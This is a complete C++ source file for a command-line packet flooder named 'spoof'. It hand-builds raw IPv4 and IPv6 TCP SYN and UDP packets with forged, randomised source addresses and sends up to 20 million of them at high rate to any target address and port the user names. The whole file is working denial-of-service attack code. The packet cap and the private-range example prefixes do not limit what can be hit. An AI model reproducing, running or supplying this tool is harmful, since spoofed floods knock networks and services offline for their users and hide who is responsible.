// One bounded flooder with invented sources: spoof SOURCES ADDRESS PACKETS SEED [PORT/PROTOCOL [BYTES]]
//
// Sends PACKETS hand-built datagrams and SYNs, in turn, to ADDRESS from addresses
// that begin as SOURCES ("10.200" or "fd99:0:") and end at random, to PORT or to random
// ports, the datagrams with so many BYTES at random in them (a multiple of 4). Prints how many were sent and
// the seconds it took.
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/ip6.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <sys/socket.h>

#include <algorithm>
#include <array>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>
#include <string>
#include <vector>

namespace {

constexpr long kMost = 20'000'000;
constexpr int kBatch = 64;

struct Target {
  bool ipv6 = false;
  std::array<std::uint8_t, 16> sources{}, address{};
  std::size_t size() const { return ipv6 ? 16 : 4; }
};

std::uint32_t sum(const std::uint8_t* bytes, std::size_t size) {
  std::uint32_t total = 0;
  for (std::size_t at = 0; at + 1 < size; at += 2)
    total += static_cast<std::uint32_t>(bytes[at] << 8 | bytes[at + 1]);
  if (size % 2 != 0) total += static_cast<std::uint32_t>(bytes[size - 1] << 8);
  return total;
}

std::uint16_t folded(std::uint32_t total) {
  while (total >> 16 != 0) total = (total & 0xffff) + (total >> 16);
  return htons(static_cast<std::uint16_t>(~total));
}

std::vector<std::uint8_t> packet(const Target& target, std::uint32_t chance, std::uint16_t port, bool tcp,
                                 const std::vector<std::uint32_t>& payload) {
  std::array<std::uint8_t, 16> source = target.sources;
  const std::size_t end = target.size();
  source[end - 1] = static_cast<std::uint8_t>(chance);
  source[end - 2] = static_cast<std::uint8_t>(chance >> 8);
  if (target.ipv6) {  // another /64 each
    source[6] = static_cast<std::uint8_t>(chance >> 8);
    source[7] = static_cast<std::uint8_t>(chance);
  }
  const std::uint8_t protocol = tcp ? IPPROTO_TCP : IPPROTO_UDP;
  const std::uint16_t from = static_cast<std::uint16_t>(1024 + (chance >> 16) % 60000);
  std::vector<std::uint8_t> body(tcp ? sizeof(tcphdr) : sizeof(udphdr));
  const std::uint16_t ports[2] = {htons(from), htons(port)};
  std::memcpy(body.data(), ports, sizeof ports);
  if (tcp) {
    body[12] = 5 << 4;
    body[13] = 0x02;
    body[14] = 0xff;
  } else {
    const std::size_t bytes = payload.size() * sizeof(std::uint32_t);
    body.resize(sizeof(udphdr) + bytes);
    body[4] = static_cast<std::uint8_t>(body.size() >> 8);
    body[5] = static_cast<std::uint8_t>(body.size());
    if (bytes > 0) std::memcpy(body.data() + sizeof(udphdr), payload.data(), bytes);
  }
  std::uint32_t total = sum(source.data(), end) + sum(target.address.data(), end) + protocol +
                        static_cast<std::uint32_t>(body.size()) + sum(body.data(), body.size());
  const std::uint16_t check = folded(total);
  std::memcpy(body.data() + (tcp ? 16 : 6), &check, sizeof check);
  std::vector<std::uint8_t> whole;
  if (target.ipv6) {
    whole = {0x60,
             0,
             0,
             0,
             static_cast<std::uint8_t>(body.size() >> 8),
             static_cast<std::uint8_t>(body.size()),
             protocol,
             64};
  } else {  // the kernel fills in length, identification and checksum (raw(7))
    whole = {0x45, 0, 0, 0, 0, 0, 0, 0, 64, protocol, 0, 0};
  }
  whole.insert(whole.end(), source.begin(), source.begin() + static_cast<std::ptrdiff_t>(end));
  whole.insert(whole.end(), target.address.begin(),
               target.address.begin() + static_cast<std::ptrdiff_t>(end));
  whole.insert(whole.end(), body.begin(), body.end());
  return whole;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 5) return std::fputs("spoof SOURCES ADDRESS PACKETS SEED [PORT/PROTOCOL [BYTES]]\n", stderr), 2;
  Target target;
  target.ipv6 = std::strchr(argv[2], ':') != nullptr;
  const int family = target.ipv6 ? AF_INET6 : AF_INET;
  const std::string sources = std::string(argv[1]) + (target.ipv6 ? ":" : ".0.0");
  if (inet_pton(family, sources.c_str(), target.sources.data()) != 1 ||
      inet_pton(family, argv[2], target.address.data()) != 1) {
    return std::fputs("spoof: no such address\n", stderr), 2;
  }
  const long most = std::clamp(std::atol(argv[3]), 0L, kMost);
  const int fixed = argc > 5 ? std::atoi(argv[5]) : 0;
  const bool only_tcp = argc > 5 && std::strstr(argv[5], "tcp") != nullptr;
  std::vector<std::uint32_t> payload(
      argc > 6 ? static_cast<std::size_t>(std::clamp(std::atoi(argv[6]), 0, 1200)) / 4 : 0);
  std::mt19937 dice(static_cast<std::uint32_t>(std::atol(argv[4])));

  const int sender = socket(family, SOCK_RAW, IPPROTO_RAW);
  sockaddr_storage to{};
  to.ss_family = static_cast<sa_family_t>(family);
  void* const place = target.ipv6 ? static_cast<void*>(&reinterpret_cast<sockaddr_in6*>(&to)->sin6_addr)
                                  : static_cast<void*>(&reinterpret_cast<sockaddr_in*>(&to)->sin_addr);
  std::memcpy(place, target.address.data(), target.size());
  const auto began = std::chrono::steady_clock::now();
  long sent = 0;
  while (sent < most) {
    std::array<std::vector<std::uint8_t>, kBatch> packets;
    std::array<iovec, kBatch> pieces{};
    std::array<mmsghdr, kBatch> messages{};
    for (std::size_t each = 0; each < kBatch; ++each) {
      const bool tcp = fixed != 0 ? only_tcp : dice() % 2 == 0;
      const auto port = static_cast<std::uint16_t>(fixed != 0 ? fixed : 1 + dice() % 65535);
      for (std::uint32_t& word : payload) word = static_cast<std::uint32_t>(dice());
      packets[each] = packet(target, static_cast<std::uint32_t>(dice()), port, tcp, payload);
      pieces[each] = {packets[each].data(), packets[each].size()};
      messages[each].msg_hdr.msg_name = &to;
      messages[each].msg_hdr.msg_namelen = target.ipv6 ? sizeof(sockaddr_in6) : sizeof(sockaddr_in);
      messages[each].msg_hdr.msg_iov = &pieces[each];
      messages[each].msg_hdr.msg_iovlen = 1;
    }
    const auto count = static_cast<unsigned>(std::min<long>(kBatch, most - sent));
    const int done = sendmmsg(sender, messages.data(), count, 0);
    if (done <= 0) return std::perror("spoof"), 1;
    sent += done;
  }
  const std::chrono::duration<double> took = std::chrono::steady_clock::now() - began;
  std::printf("%ld %.2f\n", sent, took.count());
  return 0;
}
